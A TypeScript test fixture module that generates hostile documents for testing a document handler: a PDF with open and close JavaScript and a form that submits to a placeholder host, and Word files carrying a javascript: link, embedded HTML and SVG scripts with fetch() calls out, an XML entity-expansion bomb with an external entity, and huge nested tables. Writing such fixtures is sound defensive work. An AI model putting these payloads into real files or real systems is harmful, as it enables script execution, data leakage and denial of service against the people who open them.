// Documents that would do something to their readers, made by code: nobody has to trust a file in the repository.
import { storedZip, type ZipPart } from 'edutech/core/server/zip/stored-zip';

/** Where such documents would send somebody, and what must never be asked for. */
export const elsewhere = 'http://elsewhere.example';

/** A PDF of one page that says `words` (ASCII), runs scripts when it opens and closes, sends a form and has a link. */
export function pdfWithScripts(words: string): Buffer {
  const script = (act: string) => `<< /S /JavaScript /JS (${act}) >>`;
  const text = `BT /F1 24 Tf 72 700 Td (${words}) Tj ET`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script(`app.alert("opened"); this.submitForm("${elsewhere}/form");`)} /AA << /WC ${script('app.alert("closed")')} >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R /Annots [6 0 R] >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    `<< /Type /Annot /Subtype /Link /Rect [72 690 300 730] /A << /S /URI /URI (${elsewhere}/link) >> /AA << /PV ${script('app.launchURL("javascript:alert(1)")')} >> >>`,
  ];
  let body = '%PDF-1.7\n';
  const offsets = objects.map((object, at) => {
    const offset = body.length;
    body += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const end = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`;
  return Buffer.from(`${body}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}${end}`, 'latin1');
}

const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const declaration = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const xml = (text: string, before = declaration) => Buffer.from(before + text);

interface DocxParts {
  /** Before the root element; by default what says that it is XML. */
  readonly before?: string;
  readonly body: string;
  /** Elements of the document's relationships. */
  readonly links?: string;
  readonly more?: readonly ZipPart[];
}

/** A Word file of these parts. */
function docxOf({ before = declaration, body, links = '', more = [] }: DocxParts): Buffer {
  const part = (name: string, content: Buffer) => ({ name, content });
  const namespace = 'http://schemas.openxmlformats.org/package/2006';
  return storedZip([
    part(
      '[Content_Types].xml',
      xml(
        `<Types xmlns="${namespace}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="html" ContentType="text/html"/><Default Extension="svg" ContentType="image/svg+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
      ),
    ),
    part(
      '_rels/.rels',
      xml(
        `<Relationships xmlns="${namespace}/relationships">${linked('rMain', 'officeDocument', 'word/document.xml', '')}</Relationships>`,
      ),
    ),
    part(
      'word/document.xml',
      xml(
        `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${relations}"><w:body>${body}</w:body></w:document>`,
        before,
      ),
    ),
    part(
      'word/_rels/document.xml.rels',
      xml(`<Relationships xmlns="${namespace}/relationships">${links}</Relationships>`),
    ),
    ...more,
  ]);
}

const linked = (id: string, kind: string, target: string, mode = 'External') =>
  `<Relationship Id="${id}" Type="${relations}/${kind}" Target="${target}"${mode && ` TargetMode="${mode}"`}/>`;
const picture = (link: string) =>
  `<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip ${link}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`;
const paragraph = (words: string, more = '') => `<w:p><w:r><w:t>${words}</w:t></w:r>${more}</w:p>`;

/** A Word file that says `words`, with a picture of another site, a link that is a script, and a page of HTML inside it. */
export const docxFromElsewhere = (words: string): Buffer =>
  docxOf({
    body: `${paragraph(words, picture('r:link="rPicture" r:embed="rPicture"'))}<w:p><w:hyperlink r:id="rLink"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p><w:altChunk r:id="rChunk"/>`,
    links: `${linked('rPicture', 'image', `${elsewhere}/picture.png`)}${linked('rLink', 'hyperlink', 'javascript:parent.document.title=1')}${linked('rChunk', 'aFChunk', 'chunk.html', '')}`,
    more: [
      {
        name: 'word/chunk.html',
        content: Buffer.from(
          `<img src="${elsewhere}/chunk.png"><script>parent.parent.document.title = 'taken'</script>`,
        ),
      },
    ],
  });

const svgScript = `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.postMessage('taken','*')"><script>parent.postMessage('taken','*');fetch('${elsewhere}/svg')</script><image href="${elsewhere}/svg.png"/></svg>`;
const cells = '<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>'.repeat(10);

/** Word files that would stop the page of their reader, or reach outside of it; each shows `words` where it shows anything. */
export const hostileDocx: Readonly<Record<string, (words: string) => Buffer>> = {
  'entities that become a thousand million': (words) =>
    docxOf({
      before: `<!DOCTYPE w:document [<!ENTITY a "${'a'.repeat(10)}">${Array.from('bcdefghij', (name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at]};`.repeat(10)}">`).join('')}<!ENTITY x SYSTEM "${elsewhere}/entity">]>`,
      body: `${paragraph(`${words}&x;`)}${paragraph('&j;')}`,
    }),
  'a picture with scripts': (words) =>
    docxOf({
      body: `${paragraph(words, picture('r:embed="rSvg"'))}<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="javascript:parent.postMessage('taken','*')" style="width:50pt;height:50pt" onclick="parent.postMessage('taken','*')"><v:imagedata r:id="rSvg"/></v:shape></w:pict></w:r></w:p>`,
      links: linked('rSvg', 'image', 'media/a.svg', ''),
      more: [{ name: 'word/media/a.svg', content: Buffer.from(svgScript) }],
    }),
  'tables twenty thousand deep': (words) =>
    docxOf({
      body: `${paragraph(words)}${'<w:tbl><w:tr><w:tc>'.repeat(20_000)}<w:p/>${'</w:tc></w:tr></w:tbl>'.repeat(20_000)}`,
    }),
  'a table of four hundred thousand cells': (words) =>
    docxOf({ body: `${paragraph(words)}<w:tbl>${`<w:tr>${cells}</w:tr>`.repeat(40_000)}</w:tbl>` }),
  'beginnings of declarations without an end': (words) =>
    docxOf({ before: `<!--${'<?'.repeat(200_000)}-->`, body: paragraph(words) }),
};
